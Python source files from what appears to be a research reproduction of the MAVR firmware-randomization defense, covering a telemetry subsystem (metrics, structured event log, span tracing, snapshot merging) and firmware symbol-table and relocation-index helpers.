        self, name: str, buckets: Optional[Tuple[float, ...]] = None, **labels
    ) -> Histogram:
        return self._get_or_create(Histogram, name, labels, buckets=buckets)

    # -- owned (per-instance) instruments --------------------------------

    def _own(self, cls, name: str, labels: Dict[str, object], **kwargs):
        merged = {**self.base_labels, **labels}
        key = _labels_key(name, merged)
        instance = 0
        while key in self._instruments:
            instance += 1
            merged = {**merged, "instance": instance}
            key = _labels_key(name, merged)
        instrument = self._instruments[key] = cls(name, merged, **kwargs)
        return instrument

    def own_counter(self, name: str, **labels) -> Counter:
        return self._own(Counter, name, labels)

    def own_gauge(self, name: str, initial: Optional[float] = 0, **labels) -> Gauge:
        return self._own(Gauge, name, labels, initial=initial)

    def own_histogram(
        self, name: str, buckets: Optional[Tuple[float, ...]] = None, **labels
    ) -> Histogram:
        return self._own(Histogram, name, labels, buckets=buckets)

    # -- collectors and snapshots ----------------------------------------

    def add_collector(self, fn: Callable[["MetricsRegistry"], None]) -> None:
        """Register a sampler run at snapshot time (pull-style publishing)."""
        self._collectors.append(fn)

    def collect(self) -> None:
        for fn in self._collectors:
            fn(self)

    def snapshot(self) -> List[dict]:
        """Run collectors, then serialize every instrument."""
        self.collect()
        return [
            instrument.to_dict() for instrument in self._instruments.values()
        ]

    def find(self, name: str, **labels) -> List[object]:
        """Instruments matching ``name`` whose labels include ``labels``."""
        wanted = {k: str(v) for k, v in labels.items()}
        return [
            inst for inst in self._instruments.values()
            if inst.name == name
            and all(str(inst.labels.get(k)) == v for k, v in wanted.items())
        ]

    def value(self, name: str, **labels):
        """Single matching instrument's value (None when absent)."""
        matches = self.find(name, **labels)
        if not matches:
            return None
        if len(matches) > 1:
            raise TelemetryError(
                f"metric {name!r} with labels {labels} is ambiguous "
                f"({len(matches)} instruments)"
            )
        instrument = matches[0]
        if isinstance(instrument, Histogram):
            return instrument.count
        return instrument.value
