"""Structured event log: in-memory ring buffer plus optional JSONL sink.

Events are discrete facts with a name and flat fields —
``attack.detected``, ``watchdog.starved``, ``flash.page_reflashed``,
``lockstep.divergence`` — as opposed to metrics (aggregates) and spans
(durations).  Every event carries:

* ``seq``   — monotonically increasing sequence number (total ordering,
  survives ring-buffer eviction),
* ``t_ms``  — simulated time from the bound :class:`~repro.hw.clock.
  SimClock` (``None`` before a clock is bound),
* ``event`` — the dotted event name,
* the caller's keyword fields, verbatim.

The JSONL sink writes one compact JSON object per line as events are
emitted, so a crashed simulation still leaves a usable log behind.
"""

from __future__ import annotations

import json
from collections import deque
from typing import Callable, Deque, List, Optional


def jsonable(value):
    """Best-effort conversion to JSON-serializable builtins.

    Shared by the JSONL sink, the snapshot serializer and the CLI's
    ``--json`` modes: dataclasses become dicts, enums their values,
    bytes hex strings, and sets/tuples/deques lists.
    """
    import dataclasses
    import enum
    import math

    if isinstance(value, enum.Enum):
        return jsonable(value.value)
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return {
            f.name: jsonable(getattr(value, f.name))
            for f in dataclasses.fields(value)
        }
    if isinstance(value, dict):
        return {str(k): jsonable(v) for k, v in value.items()}
    if isinstance(value, (list, tuple, set, frozenset, deque)):
        return [jsonable(v) for v in value]
    if isinstance(value, (bytes, bytearray)):
        return value.hex()
    if isinstance(value, float):
        if math.isinf(value) or math.isnan(value):
            return None
        return value
    if isinstance(value, (str, int, bool)) or value is None:
        return value
    return str(value)


class EventLog:
    """Append-only event stream with bounded memory."""

    def __init__(self, max_entries: int = 4096) -> None:
        self.max_entries = max_entries
        self._events: Deque[dict] = deque(maxlen=max_entries)
        self._clock_ms: Optional[Callable[[], float]] = None
        self._sink = None
        self.sink_path: Optional[str] = None
        self.seq = 0

    def bind_clock(self, clock_ms: Optional[Callable[[], float]]) -> None:
        self._clock_ms = clock_ms

    # -- sink -------------------------------------------------------------

    def open_jsonl(self, path) -> None:
        self.close()
        self.sink_path = str(path)
        self._sink = open(path, "w", encoding="utf-8")

    def close(self) -> None:
        if self._sink is not None:
            self._sink.close()
            self._sink = None

    # -- emission ---------------------------------------------------------

    def emit(self, name: str, **fields) -> dict:
        self.seq += 1
        now = self._clock_ms() if self._clock_ms is not None else None
        record = {
            "seq": self.seq,
            "t_ms": round(now, 6) if now is not None else None,
            "event": name,
        }
        for key, value in fields.items():
            record[key] = jsonable(value)
        self._events.append(record)
        if self._sink is not None:
            self._sink.write(json.dumps(record, separators=(",", ":")) + "\n")
            self._sink.flush()
        return record

    # -- inspection -------------------------------------------------------

    def events(self, name: Optional[str] = None) -> List[dict]:
        if name is None:
            return list(self._events)
        return [e for e in self._events if e["event"] == name]

    def names(self) -> List[str]:
        """Event names in emission order (the causal-chain assertion API)."""
        return [e["event"] for e in self._events]

    def __len__(self) -> int:
        return len(self._events)
