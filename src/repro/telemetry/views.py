"""Stats views: dataclass-shaped objects backed by registry instruments.

``MasterStats`` and ``ProgrammingStats`` predate the telemetry subsystem
as plain dataclasses.  Their public fields are load-bearing (tests, the
policy layer and the CLI read them), so instead of replacing them the
fields become *descriptors over registry instruments*:

* :class:`CounterField` — reads/writes a monotonic :class:`~repro.
  telemetry.metrics.Counter`.  ``stats.pages_written += n`` goes through
  the descriptor's setter into :meth:`Counter.set`, which rejects any
  decrement — the monotonic check that catches silent stats-reset bugs
  in the reflash path.
* :class:`GaugeField` — reads/writes a :class:`~repro.telemetry.metrics.
  Gauge` for ``last_*``-style point-in-time values.

A view owns its instruments (``own_counter``/``own_gauge``): two
programmers sharing one registry get distinct instruments (the second
picks up an ``instance`` label) rather than fighting over one monotonic
counter.
"""

from __future__ import annotations

from typing import Optional

from .hub import Telemetry


class CounterField:
    """Monotonic int/float field stored in a registry Counter."""

    def __init__(self, metric: str) -> None:
        self.metric = metric
        self.attr = ""

    def __set_name__(self, owner, name: str) -> None:
        self.attr = name

    def __get__(self, obj, objtype=None):
        if obj is None:
            return self
        return obj._instruments[self.attr].value

    def __set__(self, obj, value) -> None:
        obj._instruments[self.attr].set(value)


class GaugeField:
    """Point-in-time field stored in a registry Gauge."""

    def __init__(self, metric: str, initial: Optional[float] = 0) -> None:
        self.metric = metric
        self.initial = initial
        self.attr = ""

    def __set_name__(self, owner, name: str) -> None:
        self.attr = name

    def __get__(self, obj, objtype=None):
        if obj is None:
            return self
        return obj._instruments[self.attr].value

    def __set__(self, obj, value) -> None:
        obj._instruments[self.attr].set(value)


class StatsView:
    """Base class wiring declared fields to owned registry instruments."""

    #: label attached to every instrument this view creates
    component = "stats"

    def __init__(
        self, telemetry: Optional[Telemetry] = None, **labels
    ) -> None:
        # A view constructed without a telemetry handle still needs live
        # instruments (the monotonic contract holds either way); it gets a
        # private disabled instance.
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        registry = self.telemetry.registry
        merged = {"component": self.component, **labels}
        self._instruments = {}
        for klass in reversed(type(self).__mro__):
            for name, field in vars(klass).items():
                if isinstance(field, CounterField):
                    self._instruments[name] = registry.own_counter(
                        field.metric, **merged
                    )
                elif isinstance(field, GaugeField):
                    self._instruments[name] = registry.own_gauge(
                        field.metric, initial=field.initial, **merged
                    )

    def field_names(self):
        return list(self._instruments)

    def as_dict(self) -> dict:
        """Plain ``{field: value}`` dict (what dataclasses.asdict gave)."""
        return {name: getattr(self, name) for name in self._instruments}

    def __repr__(self) -> str:  # dataclass-style repr, same field order
        body = ", ".join(f"{k}={v!r}" for k, v in self.as_dict().items())
        return f"{type(self).__name__}({body})"
