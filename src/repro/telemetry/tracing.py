"""Span tracing: nested timed regions keyed to sim and host time.

A span measures one named region — ``mavr.boot``, ``mavr.randomize``,
``isp.program`` — with two clocks at once:

* **sim time** from the bound :class:`~repro.hw.clock.SimClock` (what the
  modeled hardware would measure: ISP transfer milliseconds, bootloader
  entry, ...), and
* **host time** from :func:`time.perf_counter` (what the simulation
  actually costs to run — the number the ROADMAP's scaling work cares
  about).

Spans nest: the tracer keeps a stack per tracer instance, so a
watchdog-triggered recovery shows up as one causal tree::

    mavr.rerandomize
      mavr.boot
        mavr.randomize
        mavr.reflash
          isp.program

Span starts and ends are also mirrored into the event log (``span.start``
/ ``span.end`` events), which is what lets a single JSONL file replay the
full interleaving of spans and discrete events.
"""

from __future__ import annotations

import time
from collections import deque
from contextlib import contextmanager
from typing import Callable, Deque, Dict, List, Optional

from .events import EventLog, jsonable


class Span:
    """One timed region; ``attrs`` may be extended while the span is open."""

    __slots__ = (
        "name", "span_id", "parent_id", "depth", "attrs",
        "start_sim_ms", "end_sim_ms", "start_host", "end_host",
    )

    def __init__(
        self, name: str, span_id: int, parent_id: Optional[int],
        depth: int, attrs: Dict[str, object],
        start_sim_ms: Optional[float], start_host: float,
    ) -> None:
        self.name = name
        self.span_id = span_id
        self.parent_id = parent_id
        self.depth = depth
        self.attrs = attrs
        self.start_sim_ms = start_sim_ms
        self.end_sim_ms: Optional[float] = None
        self.start_host = start_host
        self.end_host: Optional[float] = None

    @property
    def duration_sim_ms(self) -> Optional[float]:
        if self.start_sim_ms is None or self.end_sim_ms is None:
            return None
        return self.end_sim_ms - self.start_sim_ms

    @property
    def duration_host_ms(self) -> Optional[float]:
        if self.end_host is None:
            return None
        return (self.end_host - self.start_host) * 1000.0

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "depth": self.depth,
            "start_sim_ms": self.start_sim_ms,
            "duration_sim_ms": self.duration_sim_ms,
            "duration_host_ms": self.duration_host_ms,
            "attrs": jsonable(self.attrs),
        }


class Tracer:
    """Produces nested spans; finished spans land in a bounded buffer."""

    def __init__(
        self,
        event_log: Optional[EventLog] = None,
        max_spans: int = 4096,
    ) -> None:
        self.event_log = event_log
        self.spans: Deque[Span] = deque(maxlen=max_spans)
        self._stack: List[Span] = []
        self._clock_ms: Optional[Callable[[], float]] = None
        self._next_id = 1

    def bind_clock(self, clock_ms: Optional[Callable[[], float]]) -> None:
        self._clock_ms = clock_ms

    def _now_sim(self) -> Optional[float]:
        return self._clock_ms() if self._clock_ms is not None else None

    @property
    def active(self) -> Optional[Span]:
        return self._stack[-1] if self._stack else None

    @contextmanager
    def span(self, name: str, **attrs):
        span = Span(
            name=name,
            span_id=self._next_id,
            parent_id=self._stack[-1].span_id if self._stack else None,
            depth=len(self._stack),
            attrs=dict(attrs),
            start_sim_ms=self._now_sim(),
            start_host=time.perf_counter(),
        )
        self._next_id += 1
        if self.event_log is not None:
            self.event_log.emit(
                "span.start", span=name, span_id=span.span_id,
                parent_id=span.parent_id,
            )
        self._stack.append(span)
        try:
            yield span
        finally:
            self._stack.pop()
            span.end_host = time.perf_counter()
            span.end_sim_ms = self._now_sim()
            self.spans.append(span)
            if self.event_log is not None:
                self.event_log.emit(
                    "span.end", span=name, span_id=span.span_id,
                    parent_id=span.parent_id,
                    duration_sim_ms=span.duration_sim_ms,
                    duration_host_ms=round(span.duration_host_ms, 6),
                    **jsonable(span.attrs),
                )

    # -- inspection -------------------------------------------------------

    def finished(self, name: Optional[str] = None) -> List[Span]:
        if name is None:
            return list(self.spans)
        return [s for s in self.spans if s.name == name]

    def children_of(self, span: Span) -> List[Span]:
        return [s for s in self.spans if s.parent_id == span.span_id]

    def tree(self) -> List[dict]:
        """Finished spans as a forest of ``{span, children}`` dicts."""
        nodes = {s.span_id: {**s.to_dict(), "children": []} for s in self.spans}
        roots: List[dict] = []
        for span in self.spans:
            node = nodes[span.span_id]
            parent = nodes.get(span.parent_id)
            if parent is not None:
                parent["children"].append(node)
            else:
                roots.append(node)
        return roots
