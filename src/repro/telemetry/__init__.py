"""Unified telemetry: metrics registry, span tracing, structured events.

See ``docs/OBSERVABILITY.md`` for the metric/span/event naming scheme and
the JSONL wire format.  The subsystem is dependency-free and disabled by
default; a disabled handle costs one boolean check per span/event site
and exactly nothing in the CPU execution hot loop (engine counters are
published by snapshot-time collectors, not per-retire hooks).
"""

from .events import EventLog, jsonable
from .hub import SCHEMA_VERSION, Telemetry
from .metrics import (
    Counter,
    DEFAULT_BUCKETS_MS,
    Gauge,
    Histogram,
    MetricsRegistry,
)
from .profiler import (
    FunctionTable,
    PROFILE_SCHEMA,
    build_report,
    collapsed_stack_lines,
    format_profile_table,
    merge_reports,
)
from .tracing import Span, Tracer
from .views import CounterField, GaugeField, StatsView

__all__ = [
    "Counter",
    "CounterField",
    "DEFAULT_BUCKETS_MS",
    "EventLog",
    "FunctionTable",
    "Gauge",
    "GaugeField",
    "Histogram",
    "MetricsRegistry",
    "PROFILE_SCHEMA",
    "build_report",
    "collapsed_stack_lines",
    "format_profile_table",
    "merge_reports",
    "SCHEMA_VERSION",
    "Span",
    "StatsView",
    "Telemetry",
    "Tracer",
    "jsonable",
]
