"""The :class:`Telemetry` facade: one handle over metrics, spans, events.

Every instrumented component takes an optional ``telemetry`` argument.
When none is given the component builds a private *disabled* instance:
its metrics registry still works (stats views keep their monotonic
contract), but spans and events are no-ops through a cached null context
manager — the disabled path costs one attribute check.

Enable telemetry by constructing one shared instance and passing it down
the object graph::

    tel = Telemetry(enabled=True, jsonl_path="out.jsonl")
    system = MavrSystem(image, seed=7, telemetry=tel)
    system.boot(); system.run(200)
    snapshot = tel.snapshot()      # {"metrics": [...], "spans": [...], ...}

``snapshot()`` runs the registered collectors (pull-style samplers over
the CPU/engine/parser counters), so engine instruction counts appear in
the output without the execution hot loop ever touching telemetry.
"""

from __future__ import annotations

import json
from typing import Callable, Dict, Iterable, Optional

from .events import EventLog, jsonable
from .metrics import MetricsRegistry
from .tracing import Tracer

SCHEMA_VERSION = 1


class _NullContext:
    """Reusable no-op context manager for disabled spans."""

    __slots__ = ()

    def __enter__(self):
        return None

    def __exit__(self, *exc_info):
        return False


_NULL_CONTEXT = _NullContext()


class Telemetry:
    """Unified observability handle (metrics + tracing + event log)."""

    def __init__(
        self,
        enabled: bool = False,
        labels: Optional[Dict[str, object]] = None,
        jsonl_path=None,
        max_events: int = 4096,
        max_spans: int = 4096,
    ) -> None:
        self.enabled = enabled
        self.registry = MetricsRegistry(labels=labels)
        self.events = EventLog(max_entries=max_events)
        self.tracer = Tracer(event_log=self.events, max_spans=max_spans)
        if jsonl_path is not None:
            self.events.open_jsonl(jsonl_path)

    # -- clock ------------------------------------------------------------

    def bind_clock(self, clock) -> None:
        """Key spans/events to a :class:`~repro.hw.clock.SimClock` (or any
        object with ``now_ms``, or a plain ``() -> float`` callable)."""
        if clock is None:
            fn: Optional[Callable[[], float]] = None
        elif callable(clock) and not hasattr(clock, "now_ms"):
            fn = clock
        else:
            fn = lambda: clock.now_ms
        self.events.bind_clock(fn)
        self.tracer.bind_clock(fn)

    # -- spans and events (no-ops while disabled) -------------------------

    def span(self, name: str, **attrs):
        if not self.enabled:
            return _NULL_CONTEXT
        return self.tracer.span(name, **attrs)

    def emit(self, name: str, **fields) -> Optional[dict]:
        if not self.enabled:
            return None
        return self.events.emit(name, **fields)

    # -- metrics ----------------------------------------------------------

    def counter(self, name: str, **labels):
        return self.registry.counter(name, **labels)

    def gauge(self, name: str, **labels):
        return self.registry.gauge(name, **labels)

    def histogram(self, name: str, buckets=None, **labels):
        return self.registry.histogram(name, buckets=buckets, **labels)

    def add_collector(self, fn) -> None:
        self.registry.add_collector(fn)

    def collect_object(
        self, prefix: str, obj, fields: Iterable[str], **labels
    ) -> None:
        """Sample ``obj.<field>`` into gauges ``<prefix>.<field>`` at
        snapshot time — the zero-hot-path-cost way to publish an existing
        stats object (parser counters, channel byte totals) into the
        registry."""
        field_list = tuple(fields)

        def _collect(registry: MetricsRegistry) -> None:
            for field in field_list:
                registry.gauge(f"{prefix}.{field}", **labels).set(
                    getattr(obj, field)
                )

        self.registry.add_collector(_collect)

    # -- snapshots ---------------------------------------------------------

    def snapshot(self) -> dict:
        """Serialize the whole subsystem to JSON-ready builtins."""
        return {
            "schema": SCHEMA_VERSION,
            "enabled": self.enabled,
            "metrics": jsonable(self.registry.snapshot()),
            "spans": [span.to_dict() for span in self.tracer.spans],
            "span_tree": self.tracer.tree(),
            "events": self.events.events(),
        }

    def write_snapshot(self, path) -> dict:
        snapshot = self.snapshot()
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(snapshot, handle, indent=2)
            handle.write("\n")
        return snapshot

    def close(self) -> None:
        self.events.close()
