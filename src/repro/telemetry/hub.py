"""The :class:`Telemetry` facade: one handle over metrics, spans, events.

Every instrumented component takes an optional ``telemetry`` argument.
When none is given the component builds a private *disabled* instance:
its metrics registry still works (stats views keep their monotonic
contract), but spans and events are no-ops through a cached null context
manager — the disabled path costs one attribute check.

Enable telemetry by constructing one shared instance and passing it down
the object graph::

    tel = Telemetry(enabled=True, jsonl_path="out.jsonl")
    system = MavrSystem(image, seed=7, telemetry=tel)
    system.boot(); system.run(200)
    snapshot = tel.snapshot()      # {"metrics": [...], "spans": [...], ...}

``snapshot()`` runs the registered collectors (pull-style samplers over
the CPU/engine/parser counters), so engine instruction counts appear in
the output without the execution hot loop ever touching telemetry.
"""

from __future__ import annotations

import json
import math
from typing import Callable, Dict, Iterable, List, Optional, Sequence

from ..errors import TelemetryError
from .events import EventLog, jsonable
from .metrics import Histogram, MetricsRegistry
from .tracing import Tracer

SCHEMA_VERSION = 1


class _NullContext:
    """Reusable no-op context manager for disabled spans."""

    __slots__ = ()

    def __enter__(self):
        return None

    def __exit__(self, *exc_info):
        return False


_NULL_CONTEXT = _NullContext()


class Telemetry:
    """Unified observability handle (metrics + tracing + event log)."""

    def __init__(
        self,
        enabled: bool = False,
        labels: Optional[Dict[str, object]] = None,
        jsonl_path=None,
        max_events: int = 4096,
        max_spans: int = 4096,
    ) -> None:
        self.enabled = enabled
        self.registry = MetricsRegistry(labels=labels)
        self.events = EventLog(max_entries=max_events)
        self.tracer = Tracer(event_log=self.events, max_spans=max_spans)
        if jsonl_path is not None:
            self.events.open_jsonl(jsonl_path)

    # -- clock ------------------------------------------------------------

    def bind_clock(self, clock) -> None:
        """Key spans/events to a :class:`~repro.hw.clock.SimClock` (or any
        object with ``now_ms``, or a plain ``() -> float`` callable)."""
        if clock is None:
            fn: Optional[Callable[[], float]] = None
        elif callable(clock) and not hasattr(clock, "now_ms"):
            fn = clock
        else:
            fn = lambda: clock.now_ms
        self.events.bind_clock(fn)
        self.tracer.bind_clock(fn)

    # -- spans and events (no-ops while disabled) -------------------------

    def span(self, name: str, **attrs):
        if not self.enabled:
            return _NULL_CONTEXT
        return self.tracer.span(name, **attrs)

    def emit(self, name: str, **fields) -> Optional[dict]:
        if not self.enabled:
            return None
        return self.events.emit(name, **fields)

    # -- metrics ----------------------------------------------------------

    def counter(self, name: str, **labels):
        return self.registry.counter(name, **labels)

    def gauge(self, name: str, **labels):
        return self.registry.gauge(name, **labels)

    def histogram(self, name: str, buckets=None, **labels):
        return self.registry.histogram(name, buckets=buckets, **labels)

    def add_collector(self, fn) -> None:
        self.registry.add_collector(fn)

    def collect_object(
        self, prefix: str, obj, fields: Iterable[str], **labels
    ) -> None:
        """Sample ``obj.<field>`` into gauges ``<prefix>.<field>`` at
        snapshot time — the zero-hot-path-cost way to publish an existing
        stats object (parser counters, channel byte totals) into the
        registry."""
        field_list = tuple(fields)

        def _collect(registry: MetricsRegistry) -> None:
            for field in field_list:
                registry.gauge(f"{prefix}.{field}", **labels).set(
                    getattr(obj, field)
                )

        self.registry.add_collector(_collect)

    # -- snapshots ---------------------------------------------------------

    def snapshot(self) -> dict:
        """Serialize the whole subsystem to JSON-ready builtins."""
        return {
            "schema": SCHEMA_VERSION,
            "enabled": self.enabled,
            "metrics": jsonable(self.registry.snapshot()),
            "spans": [span.to_dict() for span in self.tracer.spans],
            "span_tree": self.tracer.tree(),
            "events": self.events.events(),
        }

    def write_snapshot(self, path) -> dict:
        snapshot = self.snapshot()
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(snapshot, handle, indent=2)
            handle.write("\n")
        return snapshot

    def close(self) -> None:
        self.events.close()

    # -- merging -----------------------------------------------------------

    @staticmethod
    def merge(snapshots: Sequence[dict]) -> dict:
        """Fold several :meth:`snapshot` dicts into one.

        Used by the campaign runner to combine per-worker telemetry, but
        standalone-useful for any sharded run.  Semantics per instrument
        kind:

        * **counters** are summed — and stay monotonic: a negative
          contribution raises :class:`TelemetryError`,
        * **gauges** are last-write-wins in snapshot order (point-in-time
          values have no meaningful sum),
        * **histograms** require identical bucket bounds; counts, sums and
          extrema merge and the percentiles are re-estimated from the
          merged buckets,
        * **events** are concatenated and re-sorted by sim time (then by
          source snapshot and sequence number, so ordering is total),
        * **spans** are concatenated in snapshot order.
        """
        snapshots = list(snapshots)
        if not snapshots:
            raise TelemetryError("cannot merge zero snapshots")
        for snapshot in snapshots:
            if snapshot.get("schema") != SCHEMA_VERSION:
                raise TelemetryError(
                    f"cannot merge snapshot with schema "
                    f"{snapshot.get('schema')!r} (expected {SCHEMA_VERSION})"
                )
        events: List[dict] = []
        for source, snapshot in enumerate(snapshots):
            for event in snapshot.get("events", ()):
                events.append({**event, "source": source})
        events.sort(
            key=lambda e: (
                e["t_ms"] is not None,   # clockless events first
                e["t_ms"] or 0.0,
                e["source"],
                e["seq"],
            )
        )
        return {
            "schema": SCHEMA_VERSION,
            "enabled": any(s.get("enabled") for s in snapshots),
            "sources": len(snapshots),
            "metrics": _merge_metrics(snapshots),
            "spans": [
                span for s in snapshots for span in s.get("spans", ())
            ],
            "span_tree": [
                node for s in snapshots for node in s.get("span_tree", ())
            ],
            "events": events,
        }


def _metric_key(metric: dict):
    return (
        metric["name"],
        metric["kind"],
        tuple(sorted((k, str(v)) for k, v in metric.get("labels", {}).items())),
    )


def _merge_metrics(snapshots: Sequence[dict]) -> List[dict]:
    merged: Dict[tuple, dict] = {}
    for snapshot in snapshots:
        for metric in snapshot.get("metrics", ()):
            key = _metric_key(metric)
            if key not in merged:
                merged[key] = dict(metric)
                if metric["kind"] == "histogram":
                    merged[key]["buckets"] = dict(metric["buckets"])
                _check_counter(metric)
                continue
            into = merged[key]
            if metric["kind"] == "counter":
                _check_counter(metric)
                into["value"] += metric["value"]
            elif metric["kind"] == "gauge":
                into["value"] = metric["value"]   # last write wins
            elif metric["kind"] == "histogram":
                _merge_histogram(into, metric)
            else:
                raise TelemetryError(
                    f"cannot merge metric kind {metric['kind']!r}"
                )
    return list(merged.values())


def _check_counter(metric: dict) -> None:
    if metric["kind"] == "counter" and metric["value"] < 0:
        raise TelemetryError(
            f"counter {metric['name']!r} has negative value "
            f"{metric['value']}; refusing to merge"
        )


def _merge_histogram(into: dict, metric: dict) -> None:
    if set(into["buckets"]) != set(metric["buckets"]):
        raise TelemetryError(
            f"histogram {metric['name']!r} bucket bounds differ between "
            f"snapshots; cannot merge"
        )
    for bound, count in metric["buckets"].items():
        into["buckets"][bound] += count
    into["count"] += metric["count"]
    into["sum"] += metric["sum"]
    for field, pick in (("min", min), ("max", max)):
        values = [v for v in (into[field], metric[field]) if v is not None]
        into[field] = pick(values) if values else None
    # re-estimate mean/percentiles from the merged buckets by rebuilding
    # the instrument the distribution came from
    pairs = sorted((float(key), key) for key in into["buckets"] if key != "+inf")
    rebuilt = Histogram(
        into["name"], into.get("labels", {}),
        buckets=tuple(bound for bound, _ in pairs),
    )
    rebuilt.bucket_counts = [
        into["buckets"][key] for _, key in pairs
    ] + [into["buckets"]["+inf"]]
    rebuilt.count = into["count"]
    rebuilt.sum = into["sum"]
    rebuilt.min = into["min"] if into["min"] is not None else math.inf
    rebuilt.max = into["max"] if into["max"] is not None else -math.inf
    into["mean"] = rebuilt.mean
    for p in (50, 90, 99):
        into[f"p{p}"] = rebuilt.percentile(p)
