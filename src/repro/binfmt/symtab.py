"""Symbol tables for firmware images.

The MAVR preprocessing phase (paper §VI-B2) extracts function symbols from
the ELF produced by the compiler and prepends them to the HEX file so the
master processor can move functions as blocks.  This module is the symbol
model both phases share.

Addresses are **byte addresses** into flash, as in listings; sizes are in
bytes.  Function symbols are required to tile their portion of ``.text``
without overlap so that shuffling them is a permutation of code blocks.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from enum import Enum
from typing import Dict, Iterable, Iterator, List, Optional, Tuple

from ..errors import BinfmtError


class SymbolKind(Enum):
    """Subset of ELF symbol types the pipeline cares about."""

    FUNC = "func"
    OBJECT = "object"  # data-section objects (vtables, call tables)


# avr-ld convention: symbols that live in the SRAM data space carry this
# offset in their address (flash symbols are plain byte addresses).
DATA_SPACE_FLAG = 0x0080_0000


def is_sram_symbol(symbol: "Symbol") -> bool:
    """True when the symbol's address is a data-space (SRAM) address."""
    return symbol.address >= DATA_SPACE_FLAG


def sram_address(symbol: "Symbol") -> int:
    """Strip the data-space flag, yielding the raw SRAM byte address."""
    return symbol.address - DATA_SPACE_FLAG


@dataclass(frozen=True)
class Symbol:
    """One named region of the image."""

    name: str
    address: int  # byte address in flash
    size: int  # bytes
    kind: SymbolKind = SymbolKind.FUNC

    @property
    def end(self) -> int:
        return self.address + self.size

    @property
    def word_address(self) -> int:
        """Flash word address (what call/jmp instructions encode)."""
        return self.address // 2


_MAGIC = b"MVRS"
_HEADER = struct.Struct("<4sI")
_ENTRY = struct.Struct("<IIB")


class SymbolTable:
    """Ordered collection of symbols with fast lookup by name and address."""

    def __init__(self, symbols: Iterable[Symbol] = ()) -> None:
        self._symbols: List[Symbol] = []
        self._by_name: Dict[str, Symbol] = {}
        for sym in symbols:
            self.add(sym)

    def add(self, symbol: Symbol) -> None:
        if symbol.name in self._by_name:
            raise BinfmtError(f"duplicate symbol name: {symbol.name}")
        if symbol.size < 0 or symbol.address < 0:
            raise BinfmtError(f"negative address/size for symbol {symbol.name}")
        self._symbols.append(symbol)
        self._by_name[symbol.name] = symbol

    def __len__(self) -> int:
        return len(self._symbols)

    def __iter__(self) -> Iterator[Symbol]:
        return iter(self._symbols)

    def __contains__(self, name: str) -> bool:
        return name in self._by_name

    def get(self, name: str) -> Symbol:
        try:
            return self._by_name[name]
        except KeyError:
            raise BinfmtError(f"unknown symbol: {name}") from None

    def functions(self) -> List[Symbol]:
        """Function symbols in ascending address order (paper's block list)."""
        funcs = [s for s in self._symbols if s.kind is SymbolKind.FUNC]
        return sorted(funcs, key=lambda s: s.address)

    def objects(self) -> List[Symbol]:
        objs = [s for s in self._symbols if s.kind is SymbolKind.OBJECT]
        return sorted(objs, key=lambda s: s.address)

    def function_containing(self, byte_address: int) -> Optional[Symbol]:
        """The function whose block covers ``byte_address``, if any.

        The paper's switch-trampoline patching needs "the largest old symbol
        address that is less than or equal to the targeted address"; this is
        that binary search.
        """
        funcs = self.functions()
        lo, hi = 0, len(funcs) - 1
        best: Optional[Symbol] = None
        while lo <= hi:
            mid = (lo + hi) // 2
            if funcs[mid].address <= byte_address:
                best = funcs[mid]
                lo = mid + 1
            else:
                hi = mid - 1
        if best is not None and byte_address < best.end:
            return best
        return None

    # -- serialization (the blob prepended to the HEX file) --------------

    def to_bytes(self) -> bytes:
        """Serialize to the compact blob format stored on external flash."""
        out = bytearray(_HEADER.pack(_MAGIC, len(self._symbols)))
        names = bytearray()
        for sym in self._symbols:
            raw = sym.name.encode("utf-8")
            if len(raw) > 0xFFFF:
                raise BinfmtError(f"symbol name too long: {sym.name[:32]}...")
            out += _ENTRY.pack(sym.address, sym.size, _kind_code(sym.kind))
            out += struct.pack("<H", len(raw))
            names += raw
        out += names
        return bytes(out)

    @classmethod
    def from_bytes(cls, blob: bytes) -> "SymbolTable":
        table, _consumed = cls.from_bytes_with_size(blob)
        return table

    @classmethod
    def from_bytes_with_size(cls, blob: bytes) -> Tuple["SymbolTable", int]:
        """Parse a table and report how many bytes it occupied.

        The consumed length lets containers append further sections (the
        relocation index) after the symbol blob.
        """
        if len(blob) < _HEADER.size:
            raise BinfmtError("symbol blob truncated (header)")
        magic, count = _HEADER.unpack_from(blob, 0)
        if magic != _MAGIC:
            raise BinfmtError(f"bad symbol blob magic: {magic!r}")
        offset = _HEADER.size
        entries = []
        for _ in range(count):
            if offset + _ENTRY.size + 2 > len(blob):
                raise BinfmtError("symbol blob truncated (entry)")
            address, size, kind_code = _ENTRY.unpack_from(blob, offset)
            offset += _ENTRY.size
            (name_len,) = struct.unpack_from("<H", blob, offset)
            offset += 2
            entries.append((address, size, kind_code, name_len))
        table = cls()
        for address, size, kind_code, name_len in entries:
            if offset + name_len > len(blob):
                raise BinfmtError("symbol blob truncated (names)")
            name = blob[offset : offset + name_len].decode("utf-8")
            offset += name_len
            table.add(Symbol(name, address, size, _kind_from_code(kind_code)))
        return table, offset

    def validate_tiling(self, text_start: int, text_end: int) -> None:
        """Check function blocks tile [text_start, text_end) without overlap.

        Raises :class:`BinfmtError` on gaps or overlaps — the precondition
        for randomization to be a clean permutation of blocks.
        """
        cursor = text_start
        for sym in self.functions():
            if sym.address != cursor:
                raise BinfmtError(
                    f"function tiling broken at {sym.name}: expected "
                    f"0x{cursor:05x}, got 0x{sym.address:05x}"
                )
            cursor = sym.end
        if cursor != text_end:
            raise BinfmtError(
                f"function tiling does not cover .text: ends at 0x{cursor:05x}, "
                f"expected 0x{text_end:05x}"
            )


def _kind_code(kind: SymbolKind) -> int:
    return 0 if kind is SymbolKind.FUNC else 1


def _kind_from_code(code: int) -> SymbolKind:
    if code == 0:
        return SymbolKind.FUNC
    if code == 1:
        return SymbolKind.OBJECT
    raise BinfmtError(f"unknown symbol kind code: {code}")
