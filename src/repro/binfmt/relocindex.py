"""Precomputed relocation index — the re-randomization fast path's map.

The legacy patcher (:mod:`repro.core.patching`) re-decodes the whole
``.text`` stream on *every* randomization to find the handful of
instructions whose operands encode a layout-dependent address.  But the
set of patch sites is a property of the *original* image, not of any
particular permutation:

* absolute ``call``/``jmp`` whose target lies inside ``.text``;
* ``rcall``/``rjmp`` whose target escapes the containing segment (the
  fixed vectors+init region, or one function block) — same-segment
